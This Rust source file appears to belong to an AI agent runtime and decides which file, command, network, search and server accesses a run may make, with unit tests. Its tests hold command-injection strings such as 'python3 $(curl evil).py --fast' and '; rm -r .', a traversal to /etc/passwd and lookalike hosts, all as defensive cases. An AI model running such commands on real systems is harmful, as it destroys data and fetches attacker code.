//! What a run may touch: a pure decision, from its envelope and from what people allowed (tools page, "Permissions").
//!
//! Nothing that a model, a file or a tool says comes in here. Where a path really leads is the workspace's to know: it
//! enforces with handles what is decided here.

use std::path::{Component, Path, PathBuf};

use contract::access::{Access, CommandGrant, Decision, Envelope, Granted, HostGrant, Preset, is_private, lexical};

/// What a `*` of a command's pattern never stands for: with these a line is more than one command, or writes somewhere.
const NOT_PLAIN: &[char] = &[';', '&', '|', '<', '>', '`', '$', '(', ')', '{', '}', '\n', '\r', '\0'];

/// Whether this access is inside the envelope, or among what people allowed besides.
pub fn decide(envelope: &Envelope, allowed: &[Access], access: &Access) -> Decision {
    if envelope
        .kept
        .iter()
        .chain(allowed)
        .any(|allowed| covers(envelope, allowed, access))
    {
        return Decision::Allow;
    }
    if let Access::TaskEffect { effect } = access {
        let mut allowed = envelope.effects.iter().filter(|asked| asked.allowed);
        return match allowed.any(|asked| asked.effect == *effect) {
            // Exactly this was allowed: also a careful run need not ask again.
            true => Decision::Allow,
            false => Decision::Deny(format!("nobody allowed this task to {}", access.wants())),
        };
    }
    let outside = match inside(envelope, access) {
        Ok(()) if envelope.preset == Preset::Careful && access.is_effect() => {
            return Decision::Ask("this run asks before everything that it changes".to_owned());
        }
        Ok(()) => return Decision::Allow,
        Err(outside) => outside,
    };
    let is_off = matches!(access, Access::Execute { .. }) && envelope.commands == CommandGrant::Off;
    if is_off || envelope.preset == Preset::HandsOff {
        return Decision::Deny(format!("this run may not {}: {outside}", access.wants()));
    }
    Decision::Ask(outside)
}

/// Whether the envelope itself has it; otherwise what it lies outside of.
fn inside(envelope: &Envelope, access: &Access) -> Result<(), String> {
    let is_in = |write: bool, place: &Path| {
        let grants = envelope.folders.iter();
        grants
            .filter(|grant| grant.write || !write)
            .any(|grant| place.starts_with(&grant.path))
    };
    let elsewhere = "that is outside the folders of this run".to_owned();
    match access {
        Access::WriteScratchpad => Ok(()),
        Access::Read { path } => match elsewhere_of(envelope, path) {
            Some(place) if !is_in(false, &place) => Err(elsewhere),
            Some(_) | None => Ok(()),
        },
        Access::Write { path } => match elsewhere_of(envelope, path) {
            Some(place) if !is_in(true, &place) => Err(elsewhere),
            None if !envelope.write => Err("this run may read the folder, but not change files in it".to_owned()),
            Some(_) | None => Ok(()),
        },
        Access::Execute { command } => match &envelope.commands {
            CommandGrant::Listed { patterns } if patterns.iter().any(|pattern| is_listed(pattern, command)) => Ok(()),
            CommandGrant::Listed { .. } => Err("it is not among the commands of this run".to_owned()),
            CommandGrant::Off => Err("this run may not run commands".to_owned()),
            CommandGrant::Ask => Err("commands are asked about".to_owned()),
        },
        Access::Network { host, .. } if host == "*" && envelope.command_network => Ok(()),
        Access::Network { host, effect } => {
            let mut granted = envelope.hosts.iter().filter(|grant| is_host(&grant.host, host));
            match granted.any(|grant| grant.change || !effect) {
                true => Ok(()),
                false => Err("it is not among the hosts of this run".to_owned()),
            }
        }
        Access::Search => match envelope.search {
            Some(_) => Ok(()),
            None => Err("no search service is set up for this run".to_owned()),
        },
        Access::Server { server, .. } => match envelope.mcp_servers.contains(server) {
            true => Ok(()),
            false => Err("no approved plan of this run names it".to_owned()),
        },
        Access::TaskEffect { .. } => Err("nobody allowed it".to_owned()),
    }
}

/// Whether allowing one thing allows another: the same, or a part of it.
fn covers(envelope: &Envelope, allowed: &Access, access: &Access) -> bool {
    let below = |allowed: &str, path: &str| whole(envelope, path).starts_with(whole(envelope, allowed));
    match (allowed, access) {
        (Access::Write { path: allowed } | Access::Read { path: allowed }, Access::Read { path }) => {
            below(allowed, path)
        }
        (Access::Write { path: allowed }, Access::Write { path }) => below(allowed, path),
        (Access::Execute { command: allowed }, Access::Execute { command }) => allowed == command,
        (
            Access::Network {
                host: allowed,
                effect: changes,
            },
            Access::Network { host, effect },
        ) => allowed == host && (*changes || !effect),
        (Access::Server { .. }, Access::Server { .. }) | (Access::TaskEffect { .. }, Access::TaskEffect { .. }) => {
            allowed == access
        }
        (Access::WriteScratchpad, Access::WriteScratchpad) | (Access::Search, Access::Search) => true,
        (
            Access::Read { .. }
            | Access::Write { .. }
            | Access::WriteScratchpad
            | Access::Execute { .. }
            | Access::Network { .. }
            | Access::Search
            | Access::Server { .. }
            | Access::TaskEffect { .. },
            _,
        ) => false,
    }
}

/// The place that a path names when it does not lie in the working folder; none for a path in it. A relative path that
/// climbs out of the folder counts as one in it: the folder refuses it.
fn elsewhere_of(envelope: &Envelope, path: &str) -> Option<PathBuf> {
    let written = Path::new(path);
    if !is_absolute(written) {
        return None;
    }
    let place = lexical(written);
    (!place.starts_with(&envelope.folder)).then_some(place)
}

fn whole(envelope: &Envelope, path: &str) -> PathBuf {
    lexical(&Path::new(&envelope.folder).join(path))
}

fn is_absolute(path: &Path) -> bool {
    path.has_root() || matches!(path.components().next(), Some(Component::Prefix(_)))
}

/// Whether a command line is one of a pattern's: the same, with plain words where the pattern has a `*`.
fn is_listed(pattern: &str, command: &str) -> bool {
    let mut parts = pattern.split('*');
    let Some(mut rest) = parts.next().and_then(|start| command.strip_prefix(start)) else {
        return false;
    };
    let mut ends: Vec<&str> = parts.collect();
    let Some(last) = ends.pop() else {
        return rest.is_empty();
    };
    for part in ends {
        let Some(found) = rest.find(part) else { return false };
        if rest[..found].contains(NOT_PLAIN) {
            return false;
        }
        rest = &rest[found + part.len()..];
    }
    rest.strip_suffix(last).is_some_and(|star| !star.contains(NOT_PLAIN))
}

/// Whether a host is the one that is meant, or one below `*.name`.
fn is_host(pattern: &str, host: &str) -> bool {
    match pattern.strip_prefix('*') {
        Some(end) if end.starts_with('.') => host.len() > end.len() && host.ends_with(end),
        Some(_) | None => pattern.eq_ignore_ascii_case(host),
    }
}

/// What a call may touch: the envelope, what people allowed, and what they allowed for this call alone.
pub fn granted<'a>(envelope: &'a Envelope, allowed: impl IntoIterator<Item = &'a Access>) -> Granted {
    let mut granted = Granted {
        folder: envelope.folder.clone(),
        read: vec![envelope.folder.clone()],
        write: envelope.write.then(|| envelope.folder.clone()).into_iter().collect(),
        network: envelope.command_network,
        hosts: envelope.hosts.clone(),
        search: envelope.search.clone(),
        ..Granted::default()
    };
    for folder in &envelope.folders {
        granted.read.push(folder.path.clone());
        granted.write.extend(folder.write.then(|| folder.path.clone()));
    }
    let shown = |path: &str| whole(envelope, path).to_string_lossy().into_owned();
    for access in envelope.kept.iter().chain(allowed) {
        match access {
            Access::Read { path } => granted.read.push(shown(path)),
            Access::Write { path } => {
                granted.read.push(shown(path));
                granted.write.push(shown(path));
            }
            Access::Network { host, .. } if host == "*" => granted.network = true,
            Access::Network { host, effect } => granted.hosts.push(HostGrant {
                host: host.clone(),
                change: *effect,
                private: is_private(host),
            }),
            Access::WriteScratchpad
            | Access::Execute { .. }
            | Access::Search
            | Access::Server { .. }
            | Access::TaskEffect { .. } => {}
        }
    }
    granted
}

#[cfg(test)]
mod tests {
    use contract::access::FolderGrant;
    use contract::task_effect::{AskedEffect, TaskEffect};

    use super::*;

    fn envelope() -> Envelope {
        Envelope {
            folder: "/home/ada/expenses".to_owned(),
            write: true,
            folders: vec![FolderGrant {
                path: "/data/rates".to_owned(),
                write: false,
            }],
            commands: CommandGrant::Listed {
                patterns: vec!["git status".to_owned(), "python3 *.py --fast".to_owned()],
            },
            hosts: vec![HostGrant {
                host: "*.example.org".to_owned(),
                change: false,
                private: false,
            }],
            ..Envelope::default()
        }
    }

    fn read(path: &str) -> Access {
        Access::Read { path: path.to_owned() }
    }

    fn write(path: &str) -> Access {
        Access::Write { path: path.to_owned() }
    }

    fn run(command: &str) -> Access {
        Access::Execute {
            command: command.to_owned(),
        }
    }

    fn ask(host: &str, effect: bool) -> Access {
        Access::Network {
            host: host.to_owned(),
            effect,
        }
    }

    fn check(access: &Access, is_inside: bool) {
        let decided = decide(&envelope(), &[], access);
        assert_eq!(decided == Decision::Allow, is_inside, "{access:?}: {decided:?}");
        assert!(!matches!(decided, Decision::Deny(_)), "{access:?}: {decided:?}");
    }

    #[test]
    fn the_working_folder_is_inside_by_any_of_its_names() {
        check(&read("report.md"), true);
        check(&write("/home/ada/expenses/a/../report.md"), true);
        check(&write("/home/ada/expenses/../secret"), false);
        check(&read("/home/ada/expenses-2/a"), false);
        check(&Access::WriteScratchpad, true);
    }

    #[test]
    fn another_folder_is_inside_as_far_as_it_was_granted() {
        check(&read("/data/rates/may.csv"), true);
        check(&write("/data/rates/may.csv"), false);
        check(&read("/data/rates2"), false);
        check(&read("/data/rates/../../etc/passwd"), false);
    }

    #[test]
    fn a_star_of_a_listed_command_stands_for_plain_words_only() {
        check(&run("git status"), true);
        check(&run("git status --short"), false);
        check(&run("python3 sum.py --fast"), true);
        check(&run("python3 sum.py; rm -r . # .py --fast"), false);
        check(&run("python3 $(curl evil).py --fast"), false);
        check(&run("python3 a.py --fast\nrm -r ."), false);
    }

    #[test]
    fn a_host_is_inside_by_its_whole_name() {
        check(&ask("api.example.org", false), true);
        check(&ask("api.example.org", true), false);
        check(&ask("example.org", false), false);
        check(&ask("api.example.org.evil.net", false), false);
        check(&ask("evilexample.org", false), false);
    }

    #[test]
    fn what_was_allowed_counts_for_the_same_and_its_parts() {
        let allowed = [write("/tmp/out"), run("rm *.tmp"), ask("a.net", false)];
        let decided = |access: &Access| decide(&envelope(), &allowed, access) == Decision::Allow;
        assert!(decided(&write("/tmp/out/a.txt")) && decided(&read("/tmp/out")));
        assert!(!decided(&write("/tmp/outside")) && !decided(&write("/tmp/out/../b")));
        assert!(decided(&run("rm *.tmp")) && !decided(&run("rm /etc/x.tmp")));
        assert!(decided(&ask("a.net", false)) && !decided(&ask("a.net", true)));
    }

    #[test]
    fn a_careful_run_asks_about_effects_and_a_hands_off_run_about_nothing() {
        let with = |preset| Envelope { preset, ..envelope() };
        let careful = |access: &Access| decide(&with(Preset::Careful), &[], access);
        assert!(matches!(careful(&write("a")), Decision::Ask(_)));
        assert_eq!(careful(&read("a")), Decision::Allow);
        assert_eq!(
            decide(&with(Preset::Careful), &[write("a")], &write("a")),
            Decision::Allow
        );
        let hands_off = |access: &Access| decide(&with(Preset::HandsOff), &[], access);
        assert_eq!(hands_off(&write("a")), Decision::Allow);
        assert!(matches!(hands_off(&run("rm a")), Decision::Deny(reason) if reason.contains("rm a")));
    }

    #[test]
    fn commands_that_are_off_are_not_asked_about() {
        let off = Envelope {
            commands: CommandGrant::Off,
            ..envelope()
        };
        assert!(matches!(decide(&off, &[], &run("ls")), Decision::Deny(_)));
        let reading = Envelope {
            write: false,
            ..envelope()
        };
        assert!(matches!(decide(&reading, &[], &write("report.md")), Decision::Ask(_)));
    }

    #[test]
    fn a_server_is_inside_when_the_envelope_names_it_and_a_yes_is_for_one_of_its_tools() {
        let call = |server: &str, tool: &str| Access::Server {
            server: server.to_owned(),
            tool: tool.to_owned(),
        };
        check(&call("time", "now"), false);
        let named = Envelope {
            mcp_servers: vec!["time".to_owned()],
            ..envelope()
        };
        assert_eq!(decide(&named, &[], &call("time", "now")), Decision::Allow);
        assert!(matches!(decide(&named, &[], &call("mail", "now")), Decision::Ask(_)));
        let allowed = [call("mail", "read")];
        let decided = |access: &Access| decide(&envelope(), &allowed, access) == Decision::Allow;
        assert!(decided(&call("mail", "read")));
        assert!(!decided(&call("mail", "send")) && !decided(&call("time", "read")));
        let careful = Envelope {
            preset: Preset::Careful,
            ..named
        };
        assert!(matches!(decide(&careful, &[], &call("time", "now")), Decision::Ask(_)));
    }

    #[test]
    fn a_search_is_inside_where_a_service_is_named_and_opens_no_host() {
        check(&Access::Search, false);
        let searching = Envelope {
            search: Some("127.0.0.1:8888".to_owned()),
            ..envelope()
        };
        assert_eq!(decide(&searching, &[], &Access::Search), Decision::Allow);
        assert!(matches!(
            decide(&searching, &[], &ask("127.0.0.1:8888", false)),
            Decision::Ask(_)
        ));
        let granted = granted(&searching, &[]);
        assert_eq!(granted.search.as_deref(), Some("127.0.0.1:8888"));
        assert!(!granted.hosts.iter().any(|grant| grant.host == "127.0.0.1:8888"));
    }

    #[test]
    fn what_a_task_brings_is_inside_only_as_it_was_allowed_and_is_never_asked_about_here() {
        let check = |run: &str| TaskEffect::Check { run: run.to_owned() };
        let access = |run: &str| Access::TaskEffect { effect: check(run) };
        let named = |allowed, preset| Envelope {
            preset,
            effects: vec![AskedEffect {
                allowed,
                ..AskedEffect::new(check("make"))
            }],
            commands: CommandGrant::Listed {
                patterns: vec!["*".to_owned()],
            },
            ..envelope()
        };
        for preset in [Preset::Careful, Preset::Normal, Preset::HandsOff] {
            assert_eq!(decide(&named(true, preset), &[], &access("make")), Decision::Allow);
            assert!(matches!(
                decide(&named(false, preset), &[], &access("make")),
                Decision::Deny(_)
            ));
            assert!(matches!(
                decide(&named(true, preset), &[], &access("make all")),
                Decision::Deny(_)
            ));
        }
        let allowed = [access("make")];
        assert_eq!(decide(&envelope(), &allowed, &access("make")), Decision::Allow);
        assert!(matches!(
            decide(&envelope(), &allowed, &access("make all")),
            Decision::Deny(_)
        ));
        assert!(
            !matches!(decide(&envelope(), &allowed, &run("make")), Decision::Allow),
            "a plan's own command is another thing"
        );
    }

    #[test]
    fn an_allowed_host_is_private_only_when_it_says_so() {
        let hosts = |host: &str| granted(&Envelope::default(), &[ask(host, true)]).hosts[0].private;
        assert!(hosts("localhost:8080") && hosts("127.0.0.1") && hosts("192.168.1.4:80") && hosts("[::1]:80"));
        assert!(!hosts("example.org") && !hosts("8.8.8.8") && !hosts("10.example.org"));
        assert!(granted(&Envelope::default(), &[ask("*", true)]).network);
    }
}
